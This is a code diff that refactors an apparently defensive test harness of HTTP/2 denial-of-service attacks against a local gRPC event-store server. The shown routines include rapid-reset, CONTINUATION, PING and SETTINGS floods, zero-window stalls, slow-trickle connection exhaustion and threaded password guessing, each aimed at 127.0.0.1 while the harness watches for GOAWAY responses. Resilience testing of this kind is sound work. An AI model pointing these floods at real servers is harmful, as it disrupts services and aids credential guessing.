@@ -34,63 +34,25 @@ from pathlib import Path
 from typing import Any
 
 from ._report import Result
+from .h2raw import (
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    FRAME_HEADER,
+    GOAWAY,
+    HEADERS,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    frame,
+    header_block,
+    read_all_request,
+    request_headers,
+)
 
 __all__ = ["ATTACKS", "run"]
-
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_HEADER = struct.Struct(">BHBBL")
-_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 3, 4, 6, 7, 9
-_END_STREAM, _END_HEADERS = 0x1, 0x4
-_READ = "/event_store.client.streams.Streams/Read"
-
-
-def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
-    """One HTTP/2 frame."""
-    n = len(payload)
-    return _HEADER.pack(n >> 16, n & 0xFFFF, ftype, flags, stream_id) + payload
-
-
-def _hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
-    limit = (1 << prefix_bits) - 1
-    if value < limit:
-        return bytes((first | value,))
-    out = bytearray((first | limit,))
-    value -= limit
-    while value >= 128:
-        out.append((value & 0x7F) | 0x80)
-        value >>= 7
-    out.append(value)
-    return bytes(out)
-
-
-def header_block(headers: list[tuple[bytes, bytes]]) -> bytes:
-    """An HPACK block of literals without indexing (leaves the dynamic table alone)."""
-    out = bytearray()
-    for name, value in headers:
-        out += b"\x00" + _hpack_int(len(name), 7, 0) + name + _hpack_int(len(value), 7, 0)
-        out += value
-    return bytes(out)
-
-
-def request_headers(path: str = _READ) -> list[tuple[bytes, bytes]]:
-    """The headers of a gRPC request to ``path``."""
-    return [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
-            (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"),
-            (b"te", b"trailers")]
-
-
-def read_all_request(count: int = 1_000_000) -> bytes:
-    """A length-prefixed ``ReadReq``: ``$all`` forwards from the start, ``count`` events."""
-    from exesdb.grpc.protos import streams_pb2
-
-    request = streams_pb2.ReadReq()
-    request.options.all.start.SetInParent()
-    request.options.count = count
-    request.options.no_filter.SetInParent()
-    request.options.uuid_option.string.SetInParent()
-    data = request.SerializeToString()
-    return b"\x00" + len(data).to_bytes(4, "big") + data
-
 
 # -- the attacker's side -----------------------------------------------------------------
 
@@ -125,11 +87,11 @@ class Watch:
         buf += data
         pos = 0
         while len(buf) - pos >= 9:
-            high, low, ftype, _flags, _sid = _HEADER.unpack_from(buf, pos)
+            high, low, ftype, _flags, _sid = FRAME_HEADER.unpack_from(buf, pos)
             length = (high << 16) | low
             if len(buf) - pos - 9 < length:
                 break
-            if ftype == _GOAWAY and self.goaway_at is None:
+            if ftype == GOAWAY and self.goaway_at is None:
                 self.goaway_at = time.monotonic() - self.start
                 self.goaway_code = struct.unpack_from(">L", buf, pos + 13)[0]
             pos += 9 + length
@@ -164,7 +126,7 @@ def _connect(port: int, settings: bytes = b"", host_from: str | None = None) -> 
     sock = socket.create_connection(("127.0.0.1", port),
                                     source_address=(host_from, 0) if host_from else None)
     sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-    sock.sendall(PREFACE + frame(_SETTINGS, 0, 0, settings))
+    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
     return sock
 
 
@@ -196,11 +158,11 @@ def _rapid_reset(port: int, seconds: float, with_data: bool) -> dict[str, Any]:
         for k in range(100):
             sid = 2 * (100 * i + k) + 1
             if with_data:
-                out.append(frame(_HEADERS, _END_HEADERS, sid, block))
-                out.append(frame(_DATA, _END_STREAM, sid, body))
+                out.append(frame(HEADERS, END_HEADERS, sid, block))
+                out.append(frame(DATA, END_STREAM, sid, body))
             else:
-                out.append(frame(_HEADERS, _END_HEADERS, sid, block))
-            out.append(frame(_RST_STREAM, 0, sid, rst))
+                out.append(frame(HEADERS, END_HEADERS, sid, block))
+            out.append(frame(RST_STREAM, 0, sid, rst))
         return b"".join(out)
 
     batches = _flood(sock, watch, start + seconds, batch)
@@ -218,7 +180,7 @@ def _different_blocks(seed: int) -> Callable[[int], bytes]:
 
     def blocks(i: int) -> bytes:
         numbered = [*base, (b"x-n", b"%08d-%d" % (i, seed)), *extra[1:]]
-        return frame(_HEADERS, _END_HEADERS | _END_STREAM, 2 * i + 1, header_block(numbered))
+        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, header_block(numbered))
 
     return blocks
 
@@ -239,8 +201,8 @@ def _continuations(port: int, seconds: float) -> dict[str, Any]:
     start = time.monotonic()
     sock = _connect(port)
     watch = Watch(sock, start)
-    sock.sendall(frame(_HEADERS, 0, 1, header_block(request_headers())))
-    empty = frame(_CONTINUATION, 0, 1) * 1000
+    sock.sendall(frame(HEADERS, 0, 1, header_block(request_headers())))
+    empty = frame(CONTINUATION, 0, 1) * 1000
     batches = _flood(sock, watch, start + seconds, lambda i: empty)
     time.sleep(0.2)
     sock.close()
@@ -251,7 +213,7 @@ def _pings(port: int, seconds: float, reading: bool) -> dict[str, Any]:
     start = time.monotonic()
     sock = _connect(port)
     watch = Watch(sock, start, reading=reading)
-    pings = b"".join(frame(_PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
+    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
     if not reading:
         sock.settimeout(1.0)
     deadline = start + seconds
@@ -275,7 +237,7 @@ def _small_settings(port: int, seconds: float) -> dict[str, Any]:
     start = time.monotonic()
     sock = _connect(port)
     watch = Watch(sock, start)
-    settings = frame(_SETTINGS, 0, 0, struct.pack(">HL", 0x2, 0)) * 1000  # ENABLE_PUSH 0
+    settings = frame(SETTINGS, 0, 0, struct.pack(">HL", 0x2, 0)) * 1000  # ENABLE_PUSH 0
     batches = _flood(sock, watch, start + seconds, lambda i: settings)
     time.sleep(0.2)
     sock.close()
@@ -288,10 +250,10 @@ def _big_settings(port: int, seconds: float) -> dict[str, Any]:
     watch = Watch(sock, start)
     block = header_block(request_headers())
     # 100 calls that wait for their request message: 100 open streams
-    sock.sendall(b"".join(frame(_HEADERS, _END_HEADERS, 2 * k + 1, block) for k in range(100)))
+    sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * k + 1, block) for k in range(100)))
     entries = (1 << 20) // 6
     payload = b"".join(struct.pack(">HL", 0x4, 65535 + (k & 1)) for k in range(entries))
-    big = frame(_SETTINGS, 0, 0, payload)
+    big = frame(SETTINGS, 0, 0, payload)
     batches = _flood(sock, watch, start + seconds, lambda i: big)
     time.sleep(0.2)
     sock.close()
@@ -307,8 +269,8 @@ def _zero_window(port: int, seconds: float, connections: int = 4) -> dict[str, A
         sock = _connect(port)
         socks.append(sock)
         watches.append(Watch(sock, start))
-        sock.sendall(b"".join(frame(_HEADERS, _END_HEADERS, 2 * k + 1, block)
-                              + frame(_DATA, _END_STREAM, 2 * k + 1, body)
+        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * k + 1, block)
+                              + frame(DATA, END_STREAM, 2 * k + 1, body)
                               for k in range(100)))
     while time.monotonic() < start + seconds and not all(w.over for w in watches):
         time.sleep(0.1)
@@ -354,13 +316,13 @@ def _trickle(port: int, seconds: float, connections: int = 1100) -> dict[str, An
     for _ in range(connections):
         try:
             sock = socket.create_connection(("127.0.0.1", port), timeout=2)
-            sock.sendall(PREFACE + frame(_SETTINGS, 0, 0))
+            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
         except OSError:
             continue
         socks.append(sock)
         watches.append(Watch(sock, start, reading=False))
     # then one byte of a PING frame every 5 s on each
-    ping = frame(_PING, 0, 0, b"\x00" * 8)
+    ping = frame(PING, 0, 0, b"\x00" * 8)
     step = 0
     while time.monotonic() < start + seconds:
         for sock, watch in zip(socks, watches, strict=True):
@@ -394,8 +356,8 @@ def _password_guesses(port: int, seconds: float, threads: int = 32) -> dict[str,
         while time.monotonic() < start + seconds:
             try:
                 with _connect(port, host_from="127.0.0.2") as sock:  # another address
-                    sock.sendall(frame(_HEADERS, _END_HEADERS, 1, block)
-                                 + frame(_DATA, _END_STREAM, 1, body))
+                    sock.sendall(frame(HEADERS, END_HEADERS, 1, block)
+                                 + frame(DATA, END_STREAM, 1, body))
                     sock.settimeout(10)
                     while sock.recv(65536):
                         pass
